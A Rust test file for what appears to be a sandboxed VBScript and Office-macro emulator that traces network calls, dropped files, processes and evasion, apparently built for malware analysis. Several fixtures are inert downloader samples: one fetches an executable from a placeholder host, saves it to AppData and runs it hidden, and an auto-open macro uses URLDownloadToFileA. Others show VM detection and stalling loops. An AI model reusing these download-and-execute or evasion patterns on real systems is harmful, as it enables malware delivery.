//! What scripts and macros do, as the trace tells it. Every one here is inert: what it would fetch does not exist.

use proptest::prelude::{ProptestConfig, Strategy, proptest};
use script_host::{Ended, Host, Page, Run, Settings, Surroundings, Trace};

fn run(script: &str) -> Trace {
    run_with(script, Settings::default())
}

fn run_with(script: &str, settings: Settings) -> Trace {
    let steps = settings.steps;
    let (host, Run { ended, error, steps }) = vbscript::run(Host::new(settings, script.as_bytes()), &[script], steps);
    host.into_trace(ended, &error, steps)
}

/// What a document's macros do.
fn run_macro(script: &str) -> Trace {
    run_with(script, Settings { surroundings: Surroundings::Document, ..Settings::default() })
}

/// What a script tells by `WScript.Echo`, one row a call.
fn echoed(script: &str) -> Vec<String> {
    let trace = run(script);
    assert!(matches!(trace.ended, Some(Ended::Finished | Ended::Waits)), "{} {:?}", trace.error, trace.calls);
    let echoes = trace.calls.iter().filter(|call| call.api == "WScript.Echo");
    echoes.map(|call| call.args.join("|")).collect()
}

fn one(expression: &str) -> String {
    echoed(&format!("WScript.Echo {expression}")).join("/")
}

#[test]
fn functions_of_texts_are_those_of_the_language() {
    for (expression, expected) in [
        ("Chr(65) & ChrW(66) & Asc(\"a\")", "AB97"),
        ("Mid(\"abcdef\", 2, 3) & Left(\"abc\", 2) & Right(\"abc\", 1)", "bcdabc"),
        ("InStr(\"abcabc\", \"c\") & InStr(4, \"abcabc\", \"c\") & InStrRev(\"abcabc\", \"b\")", "365"),
        ("Replace(\"a-b-c\", \"-\", \"+\") & StrReverse(\"cba\")", "a+b+cabc"),
        ("Join(Split(\"a,b,c\", \",\"), \";\")", "a;b;c"),
        ("UCase(\"a\") & LCase(\"B\") & Trim(\"  c \") & Len(\"dd\")", "Abc2"),
        ("Hex(255) & \" \" & Hex(-1) & \" \" & Oct(8)", "FF FFFF 10"),
        ("String(3, \"x\") & Space(1) & \"y\"", "xxx y"),
        ("CInt(\"12\") + CLng(\"&H10\") & \"\"", "28"),
        ("7 \\ 2 & \" \" & 7 Mod 4 & \" \" & 2 ^ 3 & \" \" & 7 / 2", "3 3 8 3.5"),
        ("2 ^ 3 ^ 2 & \" \" & -2 ^ 2 & \" \" & 2 ^ -1", "64 -4 0.5"),
        ("1 / 3 & \" \" & 0.1 + 0.2 & \" \" & 10 ^ 15", "0.333333333333333 0.3 1E+15"),
        ("7 \\ 2 * 3 & \" \" & 10 Mod 3 * 2", "1 4"),
        ("(5 Xor 3) & (5 And 3) & (5 Or 3)", "617"),
        ("Not True", "False"),
        ("1 + 2 * 3 - -4", "11"),
        ("\"a\" < \"b\" And 2 > 1", "True"),
        ("CInt(2.5) & CInt(3.5) & Int(-1.5) & Fix(-1.5)", "24-2-1"),
        ("UBound(Array(1, 2, 3)) & LBound(Array(1))", "20"),
        ("TypeName(1) & TypeName(\"\") & TypeName(Nothing)", "IntegerStringNothing"),
        ("Eval(\"1 + 2\")", "3"),
        ("Year(#6/17/2025#) & Month(#6/17/2025#) & Weekday(#6/17/2025#)", "202563"),
        ("DateAdd(\"d\", 1, #12/31/2024#)", "1/1/2025"),
        ("Unescape(\"%41%u0042\") & Escape(\"a b\")", "ABa%20b"),
        ("\"a\"\"b\"", "a\"b"),
        ("TypeName(CreateObject(\"Scripting.Dictionary\"))", "Dictionary"),
        ("TypeName(CreateObject(\"WScript.Shell\")) & TypeName(CreateObject(\"Un.Heard\"))", "IWshShell3Object"),
    ] {
        assert_eq!(one(expression), expected, "{expression}");
    }
}

#[test]
fn statements_do_what_they_say() {
    let said = echoed(
        r#"
        Option Explicit
        Dim i, s, a(2), d
        For i = 1 To 3 : s = s & i : Next
        For i = 3 To 1 Step -1
            If i = 2 Then Exit For
            s = s & "-" & i
        Next
        Do While Len(s) < 8 : s = s & "w" : Loop
        Do
            s = s & "u"
        Loop Until True
        While Len(s) < 11
            s = s & "x"
        Wend
        WScript.Echo s
        a(0) = "p" : a(2) = "q"
        WScript.Echo Join(a, ",")
        ReDim d(1) : d(1) = 5 : ReDim Preserve d(3) : WScript.Echo d(1), UBound(d)
        Select Case i
            Case 1, 3 : WScript.Echo "no"
            Case Is > 5 : WScript.Echo "no"
            Case 2 To 4 : WScript.Echo "two"
            Case Else : WScript.Echo "no"
        End Select
        Dim x : For Each x In Array("m", "n") : WScript.Echo x : Next
        If False Then
            WScript.Echo "no"
        ElseIf s = "" Then
            WScript.Echo "no"
        Else
            WScript.Echo "else"
        End If
        If True Then WScript.Echo "one" Else WScript.Echo "no"
    "#,
    );
    assert_eq!(said, ["123-3wwwuxx", "p,,q", "5|3", "two", "m", "n", "else", "one"]);
}

#[test]
fn procedures_give_values_and_change_what_they_are_given() {
    let said = echoed(
        r#"
        Function Twice(n) : Twice = n * 2 : End Function
        Function Fact(n)
            If n <= 1 Then
                Fact = 1
            Else
                Fact = n * Fact(n - 1)
            End If
        End Function
        Sub Change(a, ByVal b) : a = "changed" : b = "changed" : End Sub
        Dim p, q : p = "p" : q = "q"
        Change p, q
        WScript.Echo Twice(4), Fact(5), p, q
        Class Counter
            Private total
            Public Property Get Value : Value = total : End Property
            Public Property Let Value(v) : total = v : End Property
            Public Sub Add(n) : total = total + n : End Sub
        End Class
        Dim c : Set c = New Counter
        c.Value = 3 : c.Add 4 : WScript.Echo c.Value
        With CreateObject("Scripting.Dictionary")
            .Add "k", "v"
            WScript.Echo .Count & .Item("k")
        End With
    "#,
    );
    assert_eq!(said, ["8|120|changed|q", "7", "1v"]);
}

#[test]
fn errors_are_passed_over_or_taken() {
    let said = echoed(
        r#"
        On Error Resume Next
        CreateObject("Scripting.FileSystemObject").GetFile "C:\none"
        WScript.Echo Err.Number, Err.Description
        Err.Clear
        WScript.Echo Err.Number
        x = 1 / 0
        WScript.Echo "on", Err.Number
        Sub Jump
            On Error GoTo Trouble
            y = 1 / 0
            WScript.Echo "no"
            Exit Sub
        Trouble:
            WScript.Echo "taken"
        End Sub
        Jump
    "#,
    );
    assert_eq!(said, ["53|File not found", "0", "on|11", "taken"]);
    let trace = run("WScript.Echo 1\nx = 1 / 0\nWScript.Echo 2");
    assert_eq!((trace.ended, trace.calls.len()), (Some(Ended::Exception), 1));
}

#[test]
fn a_downloader_goes_its_whole_way() {
    let trace = run(r#"
        Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0")
        h.open "GET", "http://files.example/b.exe", False
        h.send
        Set s = CreateObject("Adodb.Stream")
        s.Type = 1 : s.Open : s.Write h.responseBody
        p = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%APPDATA%") & "\b.exe"
        s.SaveToFile p, 2
        CreateObject("WScript.Shell").Run """" & p & """", 0, False
    "#);
    assert_eq!(trace.ended, Some(Ended::Finished), "{}", trace.error);
    assert_eq!(trace.dropped[0].0, "C:\\Users\\jsmith\\AppData\\Roaming\\b.exe");
    assert_eq!(trace.processes[0].target, "\"C:\\Users\\jsmith\\AppData\\Roaming\\b.exe\"");
}

#[test]
fn code_that_is_made_is_traced() {
    let trace = run(
        "Execute StrReverse(\"1 = x\")\nExecuteGlobal \"WScript.\" & \"Echo x\"\nExecute Chr(87) & \"Script.Echo 2\"",
    );
    let texts: Vec<&str> = trace.code.iter().map(|code| code.text.as_str()).collect();
    assert_eq!(texts, ["x = 1", "WScript.Echo x", "WScript.Echo 2"]);
    assert!(trace.calls.iter().any(|call| call.api == "WScript.Echo" && call.args == ["1"]), "{:?}", trace.calls);
}

#[test]
fn macros_begin_where_office_calls_them() {
    let trace = run_macro(
        r#"
Attribute VB_Name = "ThisDocument"
#If VBA7 Then
Private Declare PtrSafe Function Load Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
#Else
Private Declare Function Load Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long) As Long
#End If
Const base As String = "http://docs.example/"
Sub Document_Open()
    Dim target As String, parts() As String
    target = Environ("TEMP") & "\c.exe"
    Load 0, base & "c.exe", target, 0, 0
    If Application.UserName <> "" Then Call Launch(target)
    Open Environ$("TEMP") & "\n.txt" For Output As #1
    Print #1, "one"; "two"
    Close #1
End Sub
Private Sub Launch(ByVal what As String)
    Shell what, vbHide
    Debug.Print "x"
End Sub
"#,
    );
    assert_eq!(trace.ended, Some(Ended::Finished), "{} {:?}", trace.error, trace.calls);
    assert!(trace.network.iter().any(|it| it.target == "http://docs.example/c.exe"), "{:?}", trace.network);
    assert_eq!(trace.processes[0].target, "C:\\Users\\jsmith\\AppData\\Local\\Temp\\c.exe");
    let note = trace.dropped.iter().find(|(path, _)| path.ends_with("n.txt")).expect("a file");
    assert_eq!(note.1, b"onetwo\r\n");
    assert!(trace.calls.iter().any(|call| call.api == "Declare urlmon!URLDownloadToFileA"));
}

#[test]
fn objects_of_a_document_are_waited_for() {
    let trace =
        run_macro("Sub AutoOpen()\nShell UserForm1.TextBox1.Text\nx = ActiveDocument.Variables(\"a\").Value\nEnd Sub");
    let waits: Vec<&str> = trace.waits.iter().map(|it| it.target.as_str()).collect();
    assert_eq!(waits, ["UserForm1", "Variables a"]);
}

#[test]
fn a_script_by_itself_has_no_objects_but_those_that_it_makes() {
    for script in ["Sheet1.Range(\"A1\").Value = 1", "x = Form.Box.Text", "Dim a\na.Run \"calc\"", "document.write 1"] {
        let trace = run(script);
        assert_eq!(trace.ended, Some(Ended::Exception), "{script}");
        assert!(trace.error.contains("424") && trace.error.contains("Object required"), "{}", trace.error);
        assert!(trace.waits.is_empty() && trace.calls.is_empty(), "{:?} {:?}", trace.waits, trace.calls);
        let passed = format!(
            "On Error Resume Next\n{script}\nWScript.Echo Err.Number & TypeName(unheard)\nErr.Clear\nWScript.Echo Err.Number"
        );
        assert_eq!(echoed(&passed), ["424Empty", "0"], "{script}");
    }
}

#[test]
fn a_script_in_a_page_has_its_elements() {
    let page = "<div id=Hidden style='display:none'>in it</div><input id=x name=y value=v>";
    let script = "WScript.Echo hidden.innerText, x.value, document.getElementById(\"y\").value, document.all(\"x\").value\n\
                  For Each it In document.getElementsByTagName(\"input\") : WScript.Echo it.id : Next\n\
                  WScript.Echo document.getElementsByTagName(\"div\")(0).innerHTML, document.forms.length\n\
                  On Error Resume Next\nnone.value = 1\nWScript.Echo Err.Number";
    let settings = Settings { surroundings: Surroundings::Page, ..Settings::default() };
    let steps = settings.steps;
    let mut host = Host::new(settings, page.as_bytes());
    host.page = Page::of(page);
    let (host, run) = vbscript::run(host, &[script], steps);
    let trace = host.into_trace(run.ended, &run.error, run.steps);
    let echoes = trace.calls.iter().filter(|call| call.api == "WScript.Echo");
    let told: Vec<String> = echoes.map(|call| call.args.join("|")).collect();
    assert_eq!(told, ["in it|v|v|v", "x", "in it|1", "424"], "{}", trace.error);
}

#[test]
fn a_script_in_a_page_has_its_window() {
    let page = "<div id=a>in it</div><object id=Sh progid=WScript.Shell></object>";
    let script = "WScript.Echo window.document.getElementById(\"a\").innerText, top.parent.a.innerText, self.a.innerText\n\
                  On Error Resume Next\nx = external.a : x = event.a : x = history.length : x = frames.length\n\
                  x = localStorage.getItem(\"a\") : x = sessionStorage.getItem(\"a\") : x = screen.width\n\
                  WScript.Echo Err.Number\nparent.location = \"https://a.example/\"\nsh.Run \"calc.exe\"\n\
                  none.value = 1\nWScript.Echo Err.Number";
    let settings = Settings { surroundings: Surroundings::Page, ..Settings::default() };
    let steps = settings.steps;
    let mut host = Host::new(settings, page.as_bytes());
    host.page = Page::of(page);
    let (host, run) = vbscript::run(host, &[script], steps);
    let trace = host.into_trace(run.ended, &run.error, run.steps);
    let echoes = trace.calls.iter().filter(|call| call.api == "WScript.Echo");
    let told: Vec<String> = echoes.map(|call| call.args.join("|")).collect();
    assert_eq!(told, ["in it|in it|in it", "0", "424"], "{}", trace.error);
    assert_eq!(
        (trace.processes[0].target.as_str(), trace.network[0].target.as_str()),
        ("calc.exe", "https://a.example/")
    );
}

/// Each begins with a copy of all that it could go through.
#[test]
fn lists_that_are_hardly_begun_cost_steps_and_calls() {
    let page = "<b>".repeat(20_000);
    for (script, expected) in [
        ("Set all = document.all\nDo\nFor Each it In all : Exit For : Next\nLoop", Ended::Calls),
        ("Dim all(1000000)\nDo\nFor Each it In all : Exit For : Next\nLoop", Ended::Steps),
    ] {
        let settings = Settings { surroundings: Surroundings::Page, ..Settings::default() };
        let steps = settings.steps;
        let mut host = Host::new(settings, page.as_bytes());
        host.page = Page::of(&page);
        let (_, run) = vbscript::run(host, &[script], steps);
        assert_eq!(run.ended, expected, "{script} {}", run.error);
    }
}

#[test]
fn machines_are_asked_about_as_on_an_office_computer() {
    let trace = run(r#"
        Set wmi = GetObject("winmgmts:\\.\root\cimv2")
        For Each it In wmi.ExecQuery("SELECT * FROM Win32_ComputerSystem")
            WScript.Echo it.Manufacturer, it.Model
        Next
        For Each it In wmi.ExecQuery("Select * from Win32_Process Where Name = 'vmtoolsd.exe'") : WScript.Echo "found" : Next
        GetObject("winmgmts:Win32_Process").Create "calc.exe"
    "#);
    assert!(
        trace.calls.iter().any(|call| call.api == "WScript.Echo" && call.args == ["Dell Inc.", "OptiPlex 7080"]),
        "{:?}",
        trace.calls
    );
    assert!(!trace.calls.iter().any(|call| call.args == ["found"]));
    assert_eq!(trace.processes[0].target, "calc.exe");
    assert!(trace.evasion.len() >= 2);
}

#[test]
fn endless_scripts_end_with_what_they_did() {
    for script in [
        "WScript.Echo \"kept\"\nDo : Loop",
        "WScript.Echo \"kept\"\nDo\nOn Error Resume Next\nx = 1 / 0\nLoop",
        "WScript.Echo \"kept\"\nFor i = 1 To 2 Step 0 : Next",
        "WScript.Echo \"kept\"\nOn Error Resume Next\nSub f : f : End Sub\nDo : f : Loop",
        "WScript.Echo \"kept\"\nx = \"a\"\nOn Error Resume Next\nDo : x = x & x : Loop",
        "WScript.Echo \"kept\"\nSub g\nback:\nGoTo back\nEnd Sub\nDo : g : Loop",
        "WScript.Echo \"kept\"\nOn Error Resume Next\nDo : Execute \"Execute \"\"Do : Loop\"\"\" : Loop",
    ] {
        let trace = run_with(script, Settings { steps: 300_000, ..Settings::default() });
        assert!(matches!(trace.ended, Some(Ended::Steps | Ended::Calls)), "{script} {:?} {}", trace.ended, trace.error);
        assert_eq!(trace.calls[0].args, ["kept"]);
    }
    assert_eq!(run("ReDim a(99999999, 99999999)").ended, Some(Ended::Exception));
    assert_eq!(run("x = String(2000000000, \"a\")").ended, Some(Ended::Exception));
    assert_eq!(run("f\nSub f\nf\nEnd Sub").ended, Some(Ended::Exception));
}

#[test]
fn deep_nesting_is_passed_over() {
    for deep in [
        format!("x = {}1{}", "(".repeat(50_000), ")".repeat(50_000)),
        format!("x = {}1", "Not ".repeat(50_000)),
        format!("x = {}1", "-".repeat(50_000)),
        format!("x = 1{}", " ^ 1".repeat(50_000)),
        "If 1 Then\n".repeat(20_000),
        "If 1 Then ".repeat(20_000),
        "Do\n".repeat(20_000),
        format!("x = a{}", "(1)".repeat(50_000)),
        format!("x = a{}", ".b".repeat(50_000)),
        "Sub a\n".repeat(20_000),
        "Class a\n".repeat(20_000),
    ] {
        let trace = run_with(&format!("{deep}\nWScript.Echo 1"), Settings { steps: 100_000, ..Settings::default() });
        assert!(trace.ended.is_some());
    }
    let long = format!("x = \"\"{}\nWScript.Echo Len(x)", " & Chr(65)".repeat(20_000));
    assert_eq!(echoed(&long), ["20000"]);
}

/// Pieces of scripts, put together in any order.
fn piece() -> impl Strategy<Value = &'static str> {
    proptest::sample::select(vec![
        "Dim a",
        "x",
        " = ",
        "\n",
        ":",
        "(",
        ")",
        "\"t\"",
        "1",
        " & ",
        " + ",
        "If ",
        " Then ",
        "Else",
        "End If",
        "For i = 1 To 3",
        "Next",
        "Do",
        "Loop",
        " While ",
        "Sub f",
        "End Sub",
        "Function g(a)",
        "End Function",
        "Class c",
        "End Class",
        "Execute ",
        "Eval(",
        "CreateObject(",
        "WScript.Echo ",
        "On Error Resume Next",
        "Mid(",
        ",",
        ".",
        "Set ",
        "With ",
        "End With",
        "Select Case ",
        "Case ",
        "End Select",
        "Array(",
        "ReDim ",
        "Split(",
        "Exit For",
        "GoTo f",
        "f:",
        "New c",
        "Err.Raise 5",
        "String(",
        "Chr(",
        "#",
        "Open ",
        " For Output As #1",
        "Print #1, ",
        "-",
        "Not ",
        "^",
        "\u{e4}",
        "Const ",
        "Property Let p(v)",
        "End Property",
        "Type t",
        "Enum e",
        "#If ",
        "_\n",
        "'",
        "&H",
        "For Each v In ",
        "x(1) = ",
        "InStr(",
        "Replace(",
    ])
}

#[test]
fn cells_are_empty_and_waited_for() {
    for (expression, waits) in [
        ("Sheets(\"S1\").Range(\"A1\").Value", vec!["Sheets S1", "Range A1"]),
        ("Worksheets(1).Cells(2, 3).Value", vec!["Sheets 1", "Cells 2,3"]),
        ("ActiveSheet.Range(\"A1\").Value", vec!["Range A1"]),
        ("ThisWorkbook.Sheets(\"S1\").Range(\"A1\")", vec!["Sheets S1", "Range A1"]),
        ("Range(\"A1\").Value", vec!["Cells A1"]),
        ("Cells(1, 2)", vec!["Cells 1,2"]),
    ] {
        let trace =
            run_macro(&format!("Sub Auto_Open()\nDim c As String\nc = {expression}\nShell \"cmd /c \" & c\nEnd Sub\n"));
        assert_eq!((trace.ended, trace.processes.len()), (Some(Ended::Finished), 1), "{expression}: {}", trace.error);
        assert_eq!(trace.processes[0].target.trim(), "cmd /c", "{expression}");
        let told: Vec<&str> = trace.waits.iter().map(|it| it.target.as_str()).collect();
        assert_eq!(told, waits, "{expression}");
        assert!(trace.calls.iter().all(|call| !call.api.starts_with("Word.")), "{:?}", trace.calls);
    }
}

#[test]
fn messages_are_answered_as_by_one_who_goes_on() {
    for (style, button) in [(0, 1), (1, 1), (2, 5), (3, 6), (4, 6), (36, 6), (5, 4)] {
        assert_eq!(one(&format!("MsgBox(\"x\", {style})")), button.to_string());
        let popup = format!("CreateObject(\"WScript.Shell\").Popup(\"x\", 10, \"t\", {style})");
        assert_eq!(one(&popup), button.to_string());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_script_ends(pieces in proptest::collection::vec(piece(), 1..60)) {
        let script = pieces.concat();
        let trace = run_with(&script, Settings { steps: 20_000, ..Settings::default() });
        assert!(trace.ended.is_some());
        let again = run_with(&script, Settings { steps: 20_000, ..Settings::default() });
        assert_eq!(trace.calls, again.calls);
    }
}

#[test]
fn numbers_and_dates_are_written_as_windows_does() {
    for (expression, expected) in [
        ("FormatNumber(1234.567)", "1,234.57"),
        ("FormatNumber(-0.5, 1, 0) & FormatNumber(1234, 0, -1, -1, 0)", "-.51234"),
        ("FormatCurrency(-1234.5) & FormatPercent(0.1234)", "($1,234.50)12.34%"),
        (
            "FormatDateTime(#5/4/2024 13:05:09#) & \"|\" & FormatDateTime(#5/4/2024#, 1)",
            "5/4/2024 1:05:09 PM|Saturday, May 4, 2024",
        ),
        ("FormatDateTime(#5/4/2024 13:05:09#, 2) & FormatDateTime(#5/4/2024 13:05:09#, 3)", "5/4/20241:05:09 PM"),
        ("FormatDateTime(#5/4/2024 13:05:09#, 4)", "13:05"),
        ("MonthName(3) & MonthName(3, True) & WeekdayName(1) & WeekdayName(1, True, 2)", "MarchMarSundayMon"),
        ("TimeSerial(1, 2, 3) & \"|\" & TimeSerial(0, 0, 0)", "1:02:03 AM|12:00:00 AM"),
        ("LeftB(\"abc\", 4) & RightB(\"abc\", 2) & MidB(\"abc\", 3, 2)", "abcb"),
        ("AscB(MidB(\"abc\", 3, 1)) & LenB(\"abc\") & InStrB(\"abc\", \"c\") & InStrB(2, \"aba\", \"a\")", "98655"),
        ("LenB(ChrB(65) & ChrB(66)) & AscB(MidB(ChrB(65) & ChrB(66), 2, 1))", "266"),
    ] {
        assert_eq!(one(expression), expected, "{expression}");
    }
    for none in
        ["WeekdayName(8)", "WeekdayName(0)", "WeekdayName(-5, False, 2)", "WeekdayName(-1E300)", "MonthName(13)"]
    {
        let told = echoed(&format!("On Error Resume Next\nWScript.Echo {none}\nWScript.Echo Err.Number"));
        assert_eq!(told, ["5"], "{none}");
    }
    let time = one("Time");
    assert!(time.ends_with('M') && !time.contains('/'), "{time}");
}

#[test]
fn expressions_are_matched() {
    let told = echoed(
        r#"Set r = New RegExp
        r.Pattern = "[0-9]" : r.Global = True
        Execute r.Replace("W1S2c3ript.Ec4ho 6""hi""", "")
        r.Pattern = "([a-z])(\d+)?" : r.IgnoreCase = True
        Set all = r.Execute("..A12b")
        WScript.Echo all.Count & all(0) & all(0).FirstIndex & all(0).Length & all(1).SubMatches.Count & all(0).SubMatches(1)
        For Each m In all
            WScript.Echo m.Value & m.SubMatches(0)
        Next
        r.Global = False
        WScript.Echo r.Replace("a1b2", "<$2$1$&$$>") & r.Test("1") & r.Test("x")
        r.Pattern = "^b$" : r.Multiline = True
        WScript.Echo r.Test("a" & vbLf & "b")"#,
    );
    assert_eq!(told, ["hi", "2A1223212", "A12A", "bb", "<1aa1$>b2FalseTrue", "True"]);
    // What Windows takes these for is not known, nor what it does with them.
    for pattern in ["[^]]x", "[]a]", "a[]", "[^]"] {
        let script = format!(
            "Set r = New RegExp\nr.Pattern = \"{pattern}\"\nIf r.Test(\"a]x\") Then WScript.Echo \"on\"\nWScript.Echo r.Replace(\"a]x\", \"Z\")"
        );
        let args: Vec<_> = run(&script).calls.into_iter().filter(|call| call.api == "WScript.Echo").collect();
        assert_eq!(args.len(), 2, "{pattern} {args:?}");
        assert_eq!(args[1].args, ["[VBScript.RegExp.Replace]"], "{pattern}");
    }
    assert_eq!(
        echoed(
            "Set r = New RegExp\nr.Pattern = \"[\\]a]x|\\[]\"\nWScript.Echo r.Replace(\"a]x\", \"Z\") & r.Test(\"[]\")"
        ),
        ["aZTrue"]
    );
    let unknown = run("Set r = New RegExp\nr.Pattern = \"(a)\\1\"\nx = r.Replace(\"aa\", \"b\")\nWScript.Echo \"on\"");
    assert!(unknown.calls.iter().any(|call| call.api == "WScript.Echo"));
    // A search at each place of a long text ends.
    let long = "Set r = New RegExp\nr.Global = True\nr.Pattern = \".*[^A-Z]|[A-Z]\"\nFor i = 1 To 1000\nx = r.Replace(String(200000, \"A\"), \"b\")\nNext";
    assert_eq!(run(long).ended, Some(Ended::Calls));
}

#[test]
fn folders_have_paths() {
    let told = echoed(
        r#"Set f = CreateObject("Scripting.FileSystemObject")
        WScript.Echo f.GetSpecialFolder(2) & "\x"
        WScript.Echo f.GetSpecialFolder(1).Path & f.GetFolder("C:\Windows").Name
        WScript.Echo f.BuildPath(f.GetSpecialFolder(0), "a.exe")"#,
    );
    assert_eq!(
        told,
        ["C:\\Users\\jsmith\\AppData\\Local\\Temp\\x", "C:\\Windows\\System32Windows", "C:\\Windows\\a.exe"]
    );
}

#[test]
fn macros_that_are_named_are_run() {
    let trace = run_macro(
        "Sub AutoOpen()\nDebug.Print \"x\"\nApplication.OnTime Now, \"later\"\nApplication.Run \"M.pay\", \"calc\"\nEnd Sub\n\
         Sub pay(p)\nCreateObject(\"WScript.Shell\").Run p\nEnd Sub\n\
         Sub later()\nCreateObject(\"WScript.Shell\").Run \"notepad\"\nApplication.OnTime Now, \"later\"\nEnd Sub",
    );
    let ran: Vec<&str> = trace.processes.iter().map(|it| it.target.as_str()).collect();
    assert_eq!(ran, ["calc", "notepad"]);
    assert!(trace.waits.iter().all(|it| it.operation != "document"), "{:?}", trace.waits);
    assert!(trace.calls.iter().any(|call| call.api == "Debug.Print"));
}

#[test]
fn an_application_runs_macros_of_documents_alone() {
    let script = |class: &str| {
        format!(
            "Sub pay(x)\nCreateObject(\"WScript.Shell\").Run \"calc.exe \" & x\nEnd Sub\n\
             Set w = CreateObject(\"{class}\")\nw.Run \"pay\", \"a\"\nw.OnTime Now, \"pay\"\nWScript.Echo \"on\"\n"
        )
    };
    for class in ["Word.Application", "Excel.Application"] {
        let trace = run(&script(class));
        assert!(trace.processes.is_empty(), "{class} {:?}", trace.processes);
        let told: Vec<&str> = trace.calls.iter().map(|call| call.api.as_str()).collect();
        assert!(told.contains(&format!("{class}.Run").as_str()) && told.contains(&"WScript.Echo"), "{told:?}");
    }
    let macros = "Sub AutoOpen()\nThisWorkbook.Application.Run \"pay\"\nEnd Sub\nSub pay()\nShell \"calc\"\nEnd Sub\n";
    assert_eq!(run_macro(macros).processes.len(), 1);
}

#[test]
fn counting_until_there_are_no_steps_is_a_wait() {
    let told = |stall: &str| {
        let trace = run(&format!("{stall}\nCreateObject(\"WScript.Shell\").Run \"calc\""));
        assert_eq!(trace.ended, Some(Ended::Steps), "{stall}");
        trace.evasion.iter().map(|it| format!("{}: {}", it.operation, it.target)).collect::<Vec<_>>()
    };
    for (stall, expected) in [
        ("For i = 1 To 30000000\nNext", "1 To 30000000"),
        ("For i = 90000000 To 0 Step -1\nn = n + i * 2\nNext", "90000000 To 0"),
        ("For i = 1 To 9\nFor j = 1 To 30000000\nNext\nNext", "1 To 30000000"),
    ] {
        assert_eq!(told(stall), [format!("waits by counting: For {expected}")], "{stall}");
    }
    for work in [
        "Do\nLoop",
        "For i = 1 To 30000000\nx = Chr(65)\nNext",
        "For i = 1 To 30000000\nx = f\nNext\nFunction f\nf = 1\nEnd Function",
        "Dim a(9)\nFor i = 1 To 30000000\na(i Mod 9) = i\nNext",
        "For i = 1 To 3000\nDo\nLoop\nNext",
    ] {
        assert_eq!(told(work), Vec::<String>::new(), "{work}");
    }
}
